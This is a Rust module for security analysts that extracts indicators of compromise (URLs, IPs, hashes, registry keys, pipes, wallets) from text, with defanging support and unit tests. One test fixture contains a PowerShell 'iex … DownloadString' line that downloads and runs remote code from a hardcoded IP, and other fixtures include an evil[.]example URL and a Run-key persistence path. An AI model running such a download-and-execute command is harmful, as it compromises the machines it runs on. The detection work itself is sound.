//! Indicator extraction: URLs, domains, IPv4/IPv6, hashes, e-mails, file paths, registry keys,
//! named pipes, user agents, CVEs and wallets. Defanged spellings (`hxxp`, `[.]`, `[:]`) are
//! recognised and refanged; private and reserved addresses are flagged.

use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use regex::Regex;

use crate::types::{Ioc, IocKind, Layer};

const MAX_IOCS: usize = 2000;

fn re(s: &str) -> Regex {
    Regex::new(s).expect("invariant: static regex")
}

const DOT: &str = r"(?:\.|\[\.\]|\(\.\)|\{\.\}|\[dot\])";

static URL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?-u:\b)(?:https?|hxxps?|h\[tt\]ps?|hxxp|ftp|fxp|sftp|wss?)(?:://|\[:\]//|\[://\])(?:[^\s'"<>(){}`,;|\\\[\]^]|\[\.\]|\(\.\)|\{\.\}|\[dot\])+"#,
    )
});
static IPV4: LazyLock<Regex> = LazyLock::new(|| {
    re(&format!(
        r"(?:^|[^0-9A-Za-z_.])((?:25[0-5]|2[0-4]\d|1?\d?\d){DOT}(?:25[0-5]|2[0-4]\d|1?\d?\d){DOT}(?:25[0-5]|2[0-4]\d|1?\d?\d){DOT}(?:25[0-5]|2[0-4]\d|1?\d?\d))(?:$|[^0-9A-Za-z_.]|\.(?:$|[^0-9A-Za-z_]))"
    ))
});
static IPV6: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?:^|[^0-9A-Za-z_:.])((?:[0-9a-f]{1,4}:){1,7}:?(?:[0-9a-f]{1,4}(?::[0-9a-f]{1,4}){0,6})?|::(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})(?:$|[^0-9A-Za-z_:.])",
    )
});
static DOMAIN: LazyLock<Regex> = LazyLock::new(|| {
    re(&format!(
        r"(?i)(?:^|[^0-9A-Za-z_.@-])((?:[a-z0-9](?:[a-z0-9-]{{0,61}}[a-z0-9])?{DOT})+[a-z]{{2,24}})(?:$|[^0-9A-Za-z_-])"
    ))
});
static HASH: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)(?:^|[^0-9a-z])([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})(?:$|[^0-9a-z])")
});
static EMAIL: LazyLock<Regex> = LazyLock::new(|| {
    re(&format!(
        r"(?i)(?-u:\b)([a-z0-9._%+-]+(?:@|\[at\])(?:[a-z0-9-]+{DOT})+[a-z]{{2,24}})(?-u:\b)"
    ))
});
static WIN_PATH: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?:(?-u:\b)[a-z]:\\|%[a-z_]+%\\|\$env:[a-z_]+\\|\\\\[0-9A-Za-z_.$-]+\\[0-9A-Za-z_.$-]+\\)(?:[^\\/:*?"<>|\r\n'`;,()\[\]{}]+\\)*[^\\/:*?"<>|\s'`;,()\[\]{}]*"#,
    )
});
static UNIX_PATH: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?:^|[\s'"=>:])(/(?:tmp|var|etc|usr|home|dev/shm|bin|sbin|opt|root|lib|proc|Library|Users|private)/[^\s'"`;|&()<>]*)"#,
    )
});
static REGISTRY: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?-u:\b)((?:HKLM|HKCU|HKCR|HKU|HKCC|HKEY_LOCAL_MACHINE|HKEY_CURRENT_USER|HKEY_CLASSES_ROOT|HKEY_USERS|HKEY_CURRENT_CONFIG)(?::)?(?:\\{1,2}[^\\\s'"`;|)]+)+)"#,
    )
});
static PIPE: LazyLock<Regex> =
    LazyLock::new(|| re(r#"(?i)(\\\\[0-9A-Za-z_.]+\\pipe\\[^\s'"`;,)\\]+)"#));
static UA: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(Mozilla/\d\.\d \([^)\r\n'"]+\)[^'"\r\n;]*|(?:curl|Wget|python-requests|PowerShell)/\d[0-9A-Za-z_.]*)"#,
    )
});
static CVE: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)(?-u:\b)(CVE-\d{4}-\d{4,7})(?-u:\b)"));
static BTC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?:^|[^0-9A-Za-z_])(bc1[ac-hj-np-z02-9]{25,62}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})(?:$|[^0-9A-Za-z_])",
    )
});
static ETH: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?:^|[^0-9A-Za-z_])(0x[a-fA-F0-9]{40})(?:$|[^0-9A-Za-z_])"));
static XMR: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?:^|[^0-9A-Za-z_])(4[0-9AB][1-9A-HJ-NP-Za-km-z]{93})(?:$|[^0-9A-Za-z_])")
});

/// Top-level domains accepted for bare (not URL) domain names. File extensions that are also
/// country codes (`.sh`, `.py`, `.pl`, `.ps`, `.exe`-like) are left out on purpose.
const TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "ru", "cn", "io", "co", "uk", "de", "fr", "nl", "br", "in",
    "jp", "kr", "us", "eu", "xyz", "top", "online", "site", "club", "pw", "tk", "ml", "ga", "cf",
    "gq", "su", "ua", "tr", "ir", "me", "cc", "tv", "ws", "onion", "space", "website", "tech",
    "store", "live", "icu", "vip", "work", "link", "click", "gov", "edu", "mil", "int", "ro", "it",
    "es", "pl", "cz", "hu", "vn", "id", "mx", "ar", "au", "ca", "ch", "se", "no", "fi", "dk", "be",
    "at", "gr", "pt", "za", "tw", "hk", "sg", "my", "th", "ph", "pk", "bd", "ng", "ke", "eg", "sa",
    "ae", "il", "kz", "by", "lt", "lv", "ee", "bg", "rs", "hr", "si", "sk", "md", "ge", "am", "az",
    "uz", "mn", "nz", "cl", "pe", "ve", "to", "ly", "la", "st", "mobi", "name", "pro", "asia",
    "duckdns", "ddns", "host", "press", "fun", "shop", "app", "dev", "cloud",
];

/// Parts of dotted .NET / COM names that look like domains but are not.
const NOT_DOMAIN_PREFIX: &[&str] =
    &["system.", "microsoft.", "wscript.", "scripting.", "net.", "io.", "text.", "windows."];

fn refang(s: &str) -> String {
    let mut out = s.to_string();
    for (a, b) in [
        ("[.]", "."),
        ("(.)", "."),
        ("{.}", "."),
        ("[dot]", "."),
        ("[:]//", "://"),
        ("[://]", "://"),
        ("[at]", "@"),
    ] {
        out = out.replace(a, b);
    }
    let lower = out.to_ascii_lowercase();
    for (a, b) in [
        ("hxxps", "https"),
        ("hxxp", "http"),
        ("h[tt]ps", "https"),
        ("h[tt]p", "http"),
        ("fxp", "ftp"),
    ] {
        if lower.starts_with(a) {
            out = format!("{b}{}", &out[a.len()..]);
            break;
        }
    }
    out
}

/// Whether an IP is private, loopback, link-local, documentation, multicast or reserved.
pub fn ip_is_private_or_reserved(ip: &IpAddr) -> bool {
    match ip {
        IpAddr::V4(v) => v4_reserved(v),
        IpAddr::V6(v) => v6_reserved(v),
    }
}

fn v4_reserved(v: &Ipv4Addr) -> bool {
    let o = v.octets();
    v.is_private()
        || v.is_loopback()
        || v.is_link_local()
        || v.is_broadcast()
        || v.is_documentation()
        || v.is_unspecified()
        || v.is_multicast()
        || o[0] == 0
        || o[0] >= 240
        || (o[0] == 100 && (64..128).contains(&o[1]))
        || (o[0] == 198 && (o[1] == 18 || o[1] == 19))
        || (o[0] == 192 && o[1] == 0 && o[2] == 0)
}

fn v6_reserved(v: &Ipv6Addr) -> bool {
    let s = v.segments();
    v.is_loopback()
        || v.is_unspecified()
        || v.is_multicast()
        || (s[0] & 0xfe00) == 0xfc00
        || (s[0] & 0xffc0) == 0xfe80
        || (s[0] == 0x2001 && s[1] == 0xdb8)
        || v.to_ipv4_mapped().is_some_and(|m| v4_reserved(&m))
}

fn host_of(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit_once('@').map(|x| x.1).unwrap_or(host);
    let host = if host.starts_with('[') {
        host.trim_start_matches('[').split(']').next()?
    } else {
        host.split(':').next()?
    };
    if host.is_empty() { None } else { Some(host) }
}

struct Collector {
    seen: HashSet<(IocKind, String)>,
    out: Vec<Ioc>,
}

impl Collector {
    fn add(&mut self, kind: IocKind, raw: &str, layer: usize, line: usize) {
        if self.out.len() >= MAX_IOCS {
            return;
        }
        let value = refang(raw);
        let value = match kind {
            IocKind::Domain | IocKind::Email | IocKind::Md5 | IocKind::Sha1 | IocKind::Sha256 => {
                value.to_ascii_lowercase()
            }
            _ => value,
        };
        if !self.seen.insert((kind, value.clone())) {
            return;
        }
        let private_or_reserved = match kind {
            IocKind::Ipv4 | IocKind::Ipv6 => {
                value.parse::<IpAddr>().is_ok_and(|ip| ip_is_private_or_reserved(&ip))
            }
            IocKind::Url => host_of(&value).is_some_and(|h| {
                h.parse::<IpAddr>().is_ok_and(|ip| ip_is_private_or_reserved(&ip))
                    || h.eq_ignore_ascii_case("localhost")
            }),
            IocKind::Domain => {
                value == "localhost" || value.ends_with(".local") || value.ends_with(".example")
            }
            _ => false,
        };
        let defanged_from = if value != raw
            && !matches!(
                kind,
                IocKind::Domain | IocKind::Email | IocKind::Md5 | IocKind::Sha1 | IocKind::Sha256
            )
            || (value != raw.to_ascii_lowercase()
                && matches!(kind, IocKind::Domain | IocKind::Email))
        {
            Some(raw.to_string())
        } else {
            None
        };
        self.out.push(Ioc { kind, value, defanged_from, private_or_reserved, layer, line });
    }
}

fn trim_url(u: &str) -> &str {
    u.trim_end_matches(['.', ',', ')', '\'', '"', ']', '}', '>', ':', '!', '?'])
}

fn domain_ok(d: &str, in_url: bool) -> bool {
    let d = refang(d).to_ascii_lowercase();
    let Some((_, tld)) = d.rsplit_once('.') else { return false };
    if in_url {
        return tld.chars().all(|c| c.is_ascii_alphabetic()) && tld.len() >= 2;
    }
    TLDS.contains(&tld) && !NOT_DOMAIN_PREFIX.iter().any(|p| d.starts_with(p))
}

/// 1-based line of a byte offset.
struct Lines(Vec<usize>);

impl Lines {
    fn new(text: &str) -> Lines {
        Lines(text.bytes().enumerate().filter(|(_, b)| *b == b'\n').map(|(i, _)| i).collect())
    }

    fn of(&self, offset: usize) -> usize {
        self.0.partition_point(|&nl| nl < offset) + 1
    }
}

/// Extracts indicators from one text into `c`. Each pattern runs once over the whole text
/// (line numbers come from match offsets), which is much faster than per-line scanning.
fn scan(text: &str, layer: usize, c: &mut Collector) {
    let lines = Lines::new(text);
    let ln = |o: usize| lines.of(o);
    // Repeated raw matches are handled once (first line wins): large scripts repeat a lot.
    let mut done: HashSet<(u8, &str)> = HashSet::new();
    for m in URL.find_iter(text) {
        if c.out.len() >= MAX_IOCS {
            return;
        }
        if !done.insert((0, m.as_str())) {
            continue;
        }
        let u = trim_url(m.as_str());
        let fixed = refang(u);
        let Some(h) = host_of(&fixed) else { continue };
        if h.parse::<IpAddr>().is_err() && !domain_ok(h, true) {
            continue;
        }
        let h = h.to_string();
        let line = ln(m.start());
        c.add(IocKind::Url, u, layer, line);
        match h.parse::<IpAddr>() {
            Ok(IpAddr::V4(_)) => c.add(IocKind::Ipv4, &h, layer, line),
            Ok(IpAddr::V6(_)) => c.add(IocKind::Ipv6, &h, layer, line),
            Err(_) => c.add(IocKind::Domain, &h, layer, line),
        }
    }
    for m in IPV4.captures_iter(text) {
        let Some(g) = m.get(1) else { continue };
        if !done.insert((1, g.as_str())) {
            continue;
        }
        if refang(g.as_str()).parse::<Ipv4Addr>().is_ok() {
            c.add(IocKind::Ipv4, g.as_str(), layer, ln(g.start()));
        }
    }
    let has_colon = text.contains("::") || text.matches(':').nth(4).is_some();
    let v6 = if has_colon { Some(IPV6.captures_iter(text)) } else { None };
    for m in v6.into_iter().flatten() {
        let Some(g) = m.get(1) else { continue };
        if !done.insert((2, g.as_str())) {
            continue;
        }
        let raw = g.as_str();
        if raw.matches(':').count() >= 2
            && raw.chars().filter(|c| c.is_ascii_hexdigit()).count() >= 2
            && raw.parse::<Ipv6Addr>().is_ok()
        {
            c.add(IocKind::Ipv6, raw, layer, ln(g.start()));
        }
    }
    for m in DOMAIN.captures_iter(text) {
        let Some(g) = m.get(1) else { continue };
        if !done.insert((3, g.as_str())) {
            continue;
        }
        let d = g.as_str();
        if domain_ok(d, false) && refang(d).parse::<Ipv4Addr>().is_err() {
            c.add(IocKind::Domain, d, layer, ln(g.start()));
        }
    }
    for m in HASH.captures_iter(text) {
        let Some(g) = m.get(1) else { continue };
        if !done.insert((4, g.as_str())) {
            continue;
        }
        let h = g.as_str();
        // All-digit or all-letter runs are not digests.
        if h.chars().all(|c| c.is_ascii_digit()) || h.chars().all(|c| c.is_ascii_alphabetic()) {
            continue;
        }
        let kind = match h.len() {
            32 => IocKind::Md5,
            40 => IocKind::Sha1,
            _ => IocKind::Sha256,
        };
        c.add(kind, h, layer, ln(g.start()));
    }
    let has_at = text.contains('@') || text.contains("[at]");
    let emails = if has_at { Some(EMAIL.captures_iter(text)) } else { None };
    for m in emails.into_iter().flatten() {
        let Some(g) = m.get(1) else { continue };
        if !done.insert((5, g.as_str())) {
            continue;
        }
        let e = g.as_str();
        if domain_ok(e.rsplit(['@', ']']).next().unwrap_or(""), false) {
            c.add(IocKind::Email, e, layer, ln(g.start()));
        }
    }
    for m in WIN_PATH.find_iter(text) {
        if !done.insert((99, m.as_str())) {
            continue;
        }
        let p = m.as_str().trim_end_matches(['.', ' ', '\\']);
        if p.len() > 3 {
            c.add(IocKind::FilePath, p, layer, ln(m.start()));
        }
    }
    let groups: [(&Regex, IocKind); 7] = [
        (&UNIX_PATH, IocKind::FilePath),
        (&REGISTRY, IocKind::RegistryKey),
        (&PIPE, IocKind::NamedPipe),
        (&UA, IocKind::UserAgent),
        (&CVE, IocKind::Cve),
        (&ETH, IocKind::EthereumWallet),
        (&XMR, IocKind::MoneroWallet),
    ];
    for (r, kind) in groups {
        for m in r.captures_iter(text) {
            let Some(g) = m.get(1) else { continue };
            if !done.insert((6, g.as_str())) {
                continue;
            }
            let v = match kind {
                IocKind::RegistryKey => g.as_str().trim_end_matches(['\\', ' ']).to_string(),
                IocKind::UserAgent => g.as_str().trim().to_string(),
                IocKind::Cve => g.as_str().to_ascii_uppercase(),
                _ => g.as_str().to_string(),
            };
            c.add(kind, &v, layer, ln(g.start()));
        }
    }
    for m in BTC.captures_iter(text) {
        let Some(g) = m.get(1) else { continue };
        if !done.insert((7, g.as_str())) {
            continue;
        }
        let w = g.as_str();
        let mixed = w.chars().any(|c| c.is_ascii_uppercase())
            && w.chars().any(|c| c.is_ascii_lowercase())
            && w.chars().any(|c| c.is_ascii_digit());
        if w.starts_with("bc1") || mixed {
            c.add(IocKind::BitcoinWallet, w, layer, ln(g.start()));
        }
    }
}

/// Extracts indicators from every layer (deepest first, so line numbers point into the most
/// readable text), de-duplicated by kind and value. At most `max_scan` bytes are scanned.
pub(crate) fn extract(layers: &[Layer], max_scan: usize) -> Vec<Ioc> {
    let mut c = Collector { seen: HashSet::new(), out: Vec::new() };
    let mut budget = max_scan;
    for l in layers.iter().rev() {
        if budget == 0 {
            break;
        }
        let t = crate::decode::cut(&l.text, budget);
        budget -= t.len();
        scan(t, l.depth, &mut c);
    }
    c.out.sort_by(|a, b| a.kind.cmp(&b.kind).then(a.layer.cmp(&b.layer)).then(a.line.cmp(&b.line)));
    c.out
}

/// Extracts indicators from a plain text (layer 0).
pub fn extract_iocs(text: &str) -> Vec<Ioc> {
    let mut c = Collector { seen: HashSet::new(), out: Vec::new() };
    scan(text, 0, &mut c);
    c.out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn has(iocs: &[Ioc], kind: IocKind, v: &str) -> bool {
        iocs.iter().any(|i| i.kind == kind && i.value == v)
    }

    #[test]
    fn urls_ips_and_defanged() {
        let i = extract_iocs(
            "iex (New-Object Net.WebClient).DownloadString('http://94.102.53.238/~a/b.exe'); hxxps://evil[.]example[.]com/p 10.0.0.5",
        );
        assert!(has(&i, IocKind::Url, "http://94.102.53.238/~a/b.exe"));
        assert!(has(&i, IocKind::Ipv4, "94.102.53.238"));
        let d = i
            .iter()
            .find(|x| x.kind == IocKind::Url && x.value == "https://evil.example.com/p")
            .unwrap();
        assert_eq!(d.defanged_from.as_deref(), Some("hxxps://evil[.]example[.]com/p"));
        let p = i.iter().find(|x| x.value == "10.0.0.5").unwrap();
        assert!(p.private_or_reserved);
        assert!(!has(&i, IocKind::Domain, "net.webclient"));
    }

    #[test]
    fn other_kinds() {
        let t = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run x \\\\.\\pipe\\msagent_12 CVE-2017-11882 fe80::1 2001:db8::5 a@b.com C:\\Users\\Public\\x.exe d41d8cd98f00b204e9800998ecf8427e";
        let i = extract_iocs(t);
        assert!(has(
            &i,
            IocKind::RegistryKey,
            "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        ));
        assert!(has(&i, IocKind::NamedPipe, "\\\\.\\pipe\\msagent_12"));
        assert!(has(&i, IocKind::Cve, "CVE-2017-11882"));
        assert!(has(&i, IocKind::Ipv6, "fe80::1"));
        assert!(has(&i, IocKind::Email, "a@b.com"));
        assert!(has(&i, IocKind::FilePath, "C:\\Users\\Public\\x.exe"));
        assert!(has(&i, IocKind::Md5, "d41d8cd98f00b204e9800998ecf8427e"));
        assert!(i.iter().filter(|x| x.kind == IocKind::Ipv6).all(|x| x.private_or_reserved));
    }
}
